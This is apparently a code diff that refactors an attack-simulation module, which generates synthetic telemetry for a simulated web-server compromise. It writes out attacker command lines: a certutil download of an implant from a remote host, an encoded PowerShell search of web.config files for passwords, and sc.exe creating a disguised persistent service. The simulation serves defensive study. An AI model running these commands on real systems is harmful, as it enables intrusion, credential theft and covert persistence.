@@ -19,7 +19,7 @@ from tocsin.rehearse.stories import mailbox, spread, taking
 from tocsin.rehearse.stories.hold import MINUTE, Hold, agent, calling, commands, either, keeps, post
 from tocsin.rehearse.stories.means import at_work, calls_home, means, typed
 from tocsin.rehearse.stories.profile import Profile
-from tocsin.rehearse.stories.story import Story, working_day
+from tocsin.rehearse.stories.story import Story
 from tocsin.rehearse.world import Body
 
 _SHELL_PATH: Final = "C:\\inetpub\\wwwroot\\submissions\\images\\resize.aspx"
@@ -43,8 +43,8 @@ def tell(scene: Scene, profile: Profile, seed: int) -> tuple[Story, Iterator[int
 
 def _acts(scene: Scene, story: Story, profile: Profile, body: Body) -> Iterator[int]:
     dice = story.dice
-    first = working_day(scene, 0.12)
-    span = working_day(scene, 0.9) - first
+    first = scene.world.calendar.working_day(0.12)
+    span = scene.world.calendar.working_day(0.9) - first
 
     now = 0
 
@@ -193,9 +193,10 @@ def _looks_around(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
 
 def _settles(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
     """A program of their own comes over, and a service that starts it."""
-    machine, pool, site = hold.web, hold.pool, hold.means.home[0]
-    host, account, profile = machine.host, pool.session.account, story.profile
+    machine, pool, profile = hold.web, hold.pool, story.profile
+    host, account = machine.host, pool.session.account
     assert profile
+    site = hold.means.home[0]
     what = f"{profile.software.get('implant', 'A program of theirs')} is fetched under a name like Windows' own"
     with story.step(scene, ts_us, "T1105", what, host=host, account=account):
         line = f"certutil -urlcache -split -f https://{site.name}/kb5039217.cab {_IMPLANT}"
@@ -203,55 +204,48 @@ def _settles(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
         tool = commands(scene, hold, ts_us + 400_000, line, lasts_s=6)
         calls_home(scene, story, tool, site, ts_us + 700_000, received=742_400)
         processes.writes(scene, tool, ts_us + 1_900_000, _IMPLANT)
-    if profile.does("T1059.001"):
-        at = ts_us + 3 * MINUTE
-        search = "Get-ChildItem C:\\inetpub -Recurse -Include web.config | Select-String 'connectionString'"
-        text = f"{search} | Out-File C:\\Windows\\Temp\\wmi.tmp"
-        with story.step(
-            scene,
-            at,
-            "T1059.001 T1552.001",
-            "PowerShell looks for passwords in configurations",
-            host=host,
-            account=account,
-        ):
-            post(scene, story, hold, at, _TARGET, sent=1100, received=210)
-            image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
-            line = f"powershell -nop -ep bypass -enc {encoded(text)}"
-            run = commands(scene, hold, at + 400_000, line, image=image, lasts_s=7)
-            processes.script(scene, run, at + 900_000, text)
-            processes.writes(scene, run, at + 1_400_000, "C:\\Windows\\Temp\\wmi.tmp")
+    if profile.does("T1059.001 T1552.001"):
+        _searches(scene, story, hold, ts_us + 3 * MINUTE)
     at = ts_us + 11 * MINUTE
     if profile.does("T1543.003"):
-        name = "Windows Load Balancing Service"
-        with story.step(scene, at, "T1543.003 T1036.005", "A service starts their program", host=host, account=account):
+        what = "A service starts their program"
+        with story.step(scene, at, "T1543.003 T1036.005", what, host=host, account=account):
             post(scene, story, hold, at, _TARGET, sent=520, received=130)
-            # The worker's account may not do this: a weakness of the preview service makes it SYSTEM.
-            shell = processes.once(
-                scene,
-                machine,
-                at + 300_000,
-                SYSTEM32 + "cmd.exe",
-                '"cmd.exe" /c C:\\Windows\\Temp\\p.exe',
-                pool,
-                lasts_s=4,
-            )
-            session = system(machine)
-            line = f'sc.exe create wlbsvc binPath= "{_IMPLANT}" DisplayName= "{name}" start= auto'
-            processes.once(scene, machine, at + 900_000, SYSTEM32 + "sc.exe", line, shell, session, integrity="System")
-            changes.service(scene, machine, at + 1_100_000, session, name, _IMPLANT, automatic=True)
-            processes.sets(
-                scene,
-                machine.core["services"],
-                at + 1_200_000,
-                "HKLM\\System\\CurrentControlSet\\Services\\wlbsvc\\ImagePath",
-                _IMPLANT,
-            )
-            hold.implant = processes.start(scene, machine, at + 2_000_000, _IMPLANT, _IMPLANT, machine.core["services"])
+            _serves(scene, hold, at)
         keeps(scene, story, hold, "implant", "services")
     else:
         with story.step(scene, at, "T1059.003", "Their program is started by hand", host=host, account=account):
             hold.implant = processes.start(scene, machine, at, _IMPLANT, _IMPLANT, pool)
+
+
+def _searches(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
+    """PowerShell looks through configurations."""
+    search = "Get-ChildItem C:\\inetpub -Recurse -Include web.config | Select-String 'connectionString'"
+    text = f"{search} | Out-File C:\\Windows\\Temp\\wmi.tmp"
+    what = "PowerShell looks for passwords in configurations"
+    host, account = hold.web.host, hold.pool.session.account
+    with story.step(scene, ts_us, "T1059.001 T1552.001", what, host=host, account=account):
+        post(scene, story, hold, ts_us, _TARGET, sent=1100, received=210)
+        image = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
+        line = f"powershell -nop -ep bypass -enc {encoded(text)}"
+        run = commands(scene, hold, ts_us + 400_000, line, image=image, lasts_s=7)
+        processes.script(scene, run, ts_us + 900_000, text)
+        processes.writes(scene, run, ts_us + 1_400_000, "C:\\Windows\\Temp\\wmi.tmp")
+
+
+def _serves(scene: Scene, hold: Hold, ts_us: int) -> None:
+    """A service for their program, made as SYSTEM: a weakness of the preview service lets the worker become it."""
+    machine, session, name = hold.web, system(hold.web), "Windows Load Balancing Service"
+    image, owner = SYSTEM32 + "cmd.exe", machine.core["services"]
+    line = '"cmd.exe" /c C:\\Windows\\Temp\\p.exe'
+    shell = processes.once(scene, machine, ts_us + 300_000, image, line, hold.pool, lasts_s=4)
+    line = f'sc.exe create wlbsvc binPath= "{_IMPLANT}" DisplayName= "{name}" start= auto'
+    image = SYSTEM32 + "sc.exe"
+    processes.once(scene, machine, ts_us + 900_000, image, line, shell, session, integrity="System")
+    changes.service(scene, machine, ts_us + 1_100_000, session, name, _IMPLANT, automatic=True)
+    key = "HKLM\\System\\CurrentControlSet\\Services\\wlbsvc\\ImagePath"
+    processes.sets(scene, owner, ts_us + 1_200_000, key, _IMPLANT)
+    hold.implant = processes.start(scene, machine, ts_us + 2_000_000, _IMPLANT, _IMPLANT, owner)
 
 
 def _uses_shell(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
